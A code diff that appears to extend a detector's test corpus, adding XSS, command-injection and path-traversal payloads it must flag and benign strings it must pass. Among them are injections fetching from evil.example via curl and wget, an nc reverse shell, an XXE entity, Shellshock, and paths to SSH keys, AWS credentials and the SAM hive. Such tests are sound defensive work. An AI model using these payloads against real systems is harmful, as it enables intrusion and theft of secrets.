@@ -47,6 +47,30 @@ MUST: dict[str, list[str]] = {
         "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth
         "<body onload=alert(1)>",
         '"><img src=x onerror=prompt(1)>',
+        # event handlers with odd separators and junk after the event name
+        "<body onload!#$%&()=alert(1)>",
+        "<img[a]src=x[b]onerror[c]=alert(1)>",
+        '<x ev:event="load" ev:handler="#y">',
+        # script URLs split by blanks, comments or entities
+        '"jav ascript:alert(1)">',
+        "<a href=java<!-- -->script:alert(1)>x",
+        # namespaced SVG, MathML and XSL elements; DTDs
+        '<svg:rect id="x">',
+        '<xsl:template match="/">',
+        '<!DOCTYPE x [ <!ENTITY e SYSTEM "http://evil.example/x"> ]>',
+        '<!ATTLIST img onerror CDATA "alert(1)">',
+        "<foreignObject><iframe>",
+        # CSS that breaks out of its declaration or loads code
+        "<p style=\"font-family:'a;color:red';\">x</p>",
+        '<p style="background:url(//evil.example/a)">x</p>',
+        '<p style="color:red/*x*/">x</p>',
+        '"xss:expr/**/ession(alert(1))">',
+        "a:\\0075\\0072\\006c(x)",
+        # the end of a tag the value was pasted into, without its "<"
+        "prompt(1) autofocus>",
+        '"x" src="//evil.example/x.js" />',
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+        "datasrc=#x datafld=a dataformatas=html",
     ],
     "cmdi": [
         "; cat /etc/passwd",
@@ -63,6 +87,33 @@ MUST: dict[str, list[str]] = {
         "x || nc -e /bin/sh 10.0.0.1 4444",
         "';system('id');'",
         "| dir c:\\",
+        # substitutions, brace expansion, $IFS, newlines
+        "x`id`",
+        "{cat,/etc/passwd}",
+        ";{ls,-la}",
+        "cat${IFS}/etc/passwd",
+        "127.0.0.1\nid",
+        "%0aid%0a",
+        "\\nid\\n",
+        # command words after separators, also at the end or before another separator
+        "a;id;",
+        "id|",
+        "&& curl evil.example",
+        "; wget evil.example/x",
+        "| net user",
+        "& type %SYSTEMROOT%\\win.ini",
+        # a command line opening the text; a command alone in quotes
+        "ping evil.example",
+        "cat</etc/passwd",
+        "'uname'",
+        # obfuscated names, globbed paths, Shellshock, code that runs commands
+        "w'h'o'am'i",
+        ";who$@ami",
+        ";/???/??t /???/p??s??",
+        "() { :;}; echo x",
+        "<?php system('id'); ?>",
+        "__import__('os').popen('id')",
+        "require('child_process').exec('id')",
     ],
     "path-traversal": [
         "../../../etc/passwd",
@@ -77,6 +128,28 @@ MUST: dict[str, list[str]] = {
         "/var/task/lambda_function.py",
         "..%u002f..%u002fetc%u002fpasswd",
         "C:\\Windows\\System32\\drivers\\etc\\hosts",
+        # overlong UTF-8 of every length, lenient forms, look-alike slashes
+        "%c0%2e%c0%2e%c0%2fetc",
+        "%e0%80%ae%e0%80%ae/etc",
+        "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc",
+        "..%u2215..%u2215etc",
+        "%uff0e%uff0e%u2216windows",
+        # filter bypasses: Tomcat ";", trailing blanks, controls, escaped dots
+        "..;/..;/admin",
+        ".. /.. /etc",
+        "..%01/etc",
+        "\\u002e\\u002e/\\u002e\\u002e/x",
+        # absolute sensitive paths: Unix, home directories, Windows, drive roots
+        "/proc/version",
+        "/var/log/nginx/access.log",
+        "~/.ssh/id_rsa",
+        "/home/app/.aws/credentials",
+        "../.env",
+        "c:oot.ini",
+        "C:\\Windows\\System32\\config\\SAM",
+        "C:/inetpub/wwwroot",
+        # a long run of dots in a path (Windows drops trailing dots: path truncation)
+        "/" + "a" * 40 + "........{file}",
     ],
     "ssrf": [
         "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
@@ -198,6 +271,29 @@ BENIGN: list[str] = [
     "Ünïcödé naïve café",
     "日本語のテキスト",
     "emoji 🎉 party",
+    # lists and prose around command words (shell commands are lower case; a command that is a
+    # word needs an argument, or the end of the injection)
+    "Skills: Java; Python; Go",
+    "name;id;email",
+    "More & more; less is more",
+    "curl up with a book",
+    "type of thing",
+    "{id, name}",
+    "query {\n  id\n  name\n}",
+    "I'd like that",
+    "Black & white; set of 3",
+    # markup a rich-text field holds, and a link text break (not script)
+    "<p style=\"font-family:'Open Sans', sans-serif;\">Hi</p>",
+    '<a href="/docs/a.html">docs</a>',
+    'my_shop">Baby Wear</a>',
+    # paths an application handles
+    "/var",
+    "developer/options/devices",
+    "C:/Users/me/win.txt",
+    "a.ini",
+    "Wait.... what?",
+    # a JSON document inside a string (an SNS message)
+    '{"Type": "Notification", "Message": "{\\"order\\": 42, \\"note\\": \\"Tom & Jerry\\"}"}',
 ]
 
 
